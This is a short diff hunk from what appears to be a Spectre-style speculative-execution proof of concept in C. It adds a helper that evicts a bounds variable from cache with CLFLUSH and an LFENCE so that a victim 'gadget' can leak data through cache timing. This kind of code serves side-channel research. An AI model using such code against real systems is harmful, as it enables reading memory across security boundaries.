@@ -38,6 +38,18 @@ static void calibrate(void)
     threshold = (hit + miss) / 32;
 }
 
+/* Evicts the line of a user-space bound (an attacker evicts it by filling
+ * its cache set; CLFLUSH is the short way), waits, and stops any wrong
+ * path of the waiting loop's own branch from running into the gadget and
+ * loading the bound back. */
+static void evict_user_bound(const void *bound)
+{
+    _mm_clflush(bound);
+    for (volatile int z = 0; z < 20; z++)
+        ;
+    _mm_lfence();
+}
+
 typedef struct victim {
     void (*call)(size_t x);     /* the gadget: touches probe[v[x] * 512] */
     void (*evict)(void);        /* before each call: the bound leaves the cache */
